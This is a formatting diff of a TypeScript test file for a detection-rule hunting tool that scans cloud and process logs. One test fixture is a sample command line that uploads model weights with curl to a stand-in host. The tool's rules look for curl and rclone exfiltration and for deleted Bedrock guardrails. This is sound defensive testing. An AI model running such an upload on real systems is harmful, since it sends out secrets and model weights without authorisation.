@@ -33,17 +33,27 @@ describe('tripline hunt', () => {
   it('prints NDJSON alerts with the rule author and stable ids with --json', () => {
     const first = tripline(['hunt', '--rules', DETECTIONS, '--json', SAMPLES]);
     const second = tripline(['hunt', '--rules', DETECTIONS, '--json', SAMPLES]);
-    const alerts = first.stdout.trim().split('\n').map((l) => JSON.parse(l) as { id: string; rule: { author: string; id: string } });
+    const alerts = first.stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as { id: string; rule: { author: string; id: string } });
     expect(alerts).toHaveLength(4);
     for (const alert of alerts) expect(alert.rule.author).toBe('tripline');
     expect(second.stdout).toBe(first.stdout);
-    const summary = JSON.parse(first.stderr.trim().split('\n').pop() as string) as { summary: { alerts: number; records: number } };
+    const summary = JSON.parse(first.stderr.trim().split('\n').pop() as string) as {
+      summary: { alerts: number; records: number };
+    };
     expect(summary.summary).toMatchObject({ alerts: 4, records: 12 });
   });
 
   it('reads standard input, gzip files, and reports bad records without stopping', () => {
     const dir = tempDir();
-    const event = { eventSource: 'bedrock.amazonaws.com', eventName: 'DeleteGuardrail', awsRegion: 'us-east-1', eventID: 'e1' };
+    const event = {
+      eventSource: 'bedrock.amazonaws.com',
+      eventName: 'DeleteGuardrail',
+      awsRegion: 'us-east-1',
+      eventID: 'e1',
+    };
     writeFileSync(join(dir, 'events.json.gz'), gzipSync(`${JSON.stringify(event)}\n`));
     const fromGzip = tripline(['hunt', '--rules', DETECTIONS, '--json', join(dir, 'events.json.gz')]);
     expect(fromGzip.stdout).toContain('Bedrock Guardrail Deleted or Weakened');
@@ -56,7 +66,10 @@ describe('tripline hunt', () => {
 
   it('exits 0 when nothing matches and 2 when the rules cannot be read', () => {
     const dir = tempDir();
-    writeFileSync(join(dir, 'quiet.ndjson'), '{"eventSource":"s3.amazonaws.com","eventName":"GetObject","awsRegion":"eu-west-1"}\n');
+    writeFileSync(
+      join(dir, 'quiet.ndjson'),
+      '{"eventSource":"s3.amazonaws.com","eventName":"GetObject","awsRegion":"eu-west-1"}\n',
+    );
     expect(tripline(['hunt', '--rules', DETECTIONS, join(dir, 'quiet.ndjson')]).status).toBe(0);
     const missing = tripline(['hunt', '--rules', join(dir, 'nope'), join(dir, 'quiet.ndjson')]);
     expect(missing.status).toBe(2);
@@ -85,9 +98,14 @@ describe('tripline rules lint', () => {
     expect(run.stdout).toMatch(/bad\.yml:3:\d+\s+error\s+schema\.enum/);
     expect(run.stdout).toMatch(/bad\.yml:6:\d+\s+error\s+modifier\.unknown/);
     expect(run.stdout).toMatch(/bad\.yml:7:\d+\s+error\s+condition\.unknown_identifier/);
-    const json = tripline(['rules', 'lint', '--json', dir]).stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    const json = tripline(['rules', 'lint', '--json', dir])
+      .stdout.trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
     expect(json.pop()).toMatchObject({ summary: { rules: 1, compiled: 0, failed: 1 } });
-    expect(json.map((d) => d['code'])).toEqual(expect.arrayContaining(['schema.enum', 'modifier.unknown', 'condition.unknown_identifier']));
+    expect(json.map((d) => d['code'])).toEqual(
+      expect.arrayContaining(['schema.enum', 'modifier.unknown', 'condition.unknown_identifier']),
+    );
   });
 
   it('passes the bundled rules', () => {
@@ -106,14 +124,29 @@ describe('tripline rules test', () => {
 
   it('fails a rule whose true positive does not match, and one without cases under --strict', () => {
     const dir = tempDir();
-    const rule = ['title: Needs cmd', 'logsource: { product: windows, category: process_creation }', 'detection:', "  sel: { Image|endswith: '\\cmd.exe' }", '  condition: sel', ''];
+    const rule = [
+      'title: Needs cmd',
+      'logsource: { product: windows, category: process_creation }',
+      'detection:',
+      "  sel: { Image|endswith: '\\cmd.exe' }",
+      '  condition: sel',
+      '',
+    ];
     writeFileSync(join(dir, 'r.yml'), rule.join('\n'));
-    writeFileSync(join(dir, 'r.tests.yml'), "true_positives:\n  - name: not cmd\n    event: { Image: 'C:\\notepad.exe' }\n");
+    writeFileSync(
+      join(dir, 'r.tests.yml'),
+      "true_positives:\n  - name: not cmd\n    event: { Image: 'C:\\notepad.exe' }\n",
+    );
     writeFileSync(join(dir, 'untested.yml'), rule.join('\n').replace('Needs cmd', 'Untested'));
     const run = tripline(['rules', 'test', '--strict', '--json', dir]);
     expect(run.status).toBe(1);
-    const lines = run.stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
-    expect(lines).toEqual(expect.arrayContaining([expect.objectContaining({ case: 'not cmd', passed: false })]));
+    const lines = run.stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
+    expect(lines).toEqual(
+      expect.arrayContaining([expect.objectContaining({ case: 'not cmd', passed: false })]),
+    );
     expect(lines.filter((l) => l['code'] === 'ruletest.missing_case').length).toBeGreaterThanOrEqual(2);
   });
 });
@@ -121,15 +154,37 @@ describe('tripline rules test', () => {
 describe('tripline rules explain', () => {
   it('shows which selection and field made the rule match', () => {
     const dir = tempDir();
-    const event = { Image: 'C:\\Windows\\System32\\curl.exe', CommandLine: 'curl.exe -T weights.safetensors https://x.example/' };
+    const event = {
+      Image: 'C:\\Windows\\System32\\curl.exe',
+      CommandLine: 'curl.exe -T weights.safetensors https://x.example/',
+    };
     writeFileSync(join(dir, 'event.json'), JSON.stringify(event));
-    const run = tripline(['rules', 'explain', '--rule', '0b8c4e51-7d2a-4f36-b1c9-5e8a2f7d3c61', '--rules', DETECTIONS, '--event', join(dir, 'event.json')]);
+    const run = tripline([
+      'rules',
+      'explain',
+      '--rule',
+      '0b8c4e51-7d2a-4f36-b1c9-5e8a2f7d3c61',
+      '--rules',
+      DETECTIONS,
+      '--event',
+      join(dir, 'event.json'),
+    ]);
     expect(run.status).toBe(1);
     expect(run.stdout).toContain('Result:    MATCH');
     expect(run.stdout).toMatch(/✔ selection_curl/);
     expect(run.stdout).toMatch(/✘ selection_rclone/);
     expect(run.stdout).toMatch(/✔ CommandLine\|contains\|windash .*matched by/);
-    const json = JSON.parse(tripline(['rules', 'explain', '--json', '--rule', join(DETECTIONS, 'windows', 'proc_creation_win_model_weights_upload.yml'), '--event', join(dir, 'event.json')]).stdout) as { matched: boolean };
+    const json = JSON.parse(
+      tripline([
+        'rules',
+        'explain',
+        '--json',
+        '--rule',
+        join(DETECTIONS, 'windows', 'proc_creation_win_model_weights_upload.yml'),
+        '--event',
+        join(dir, 'event.json'),
+      ]).stdout,
+    ) as { matched: boolean };
     expect(json.matched).toBe(true);
   });
 });
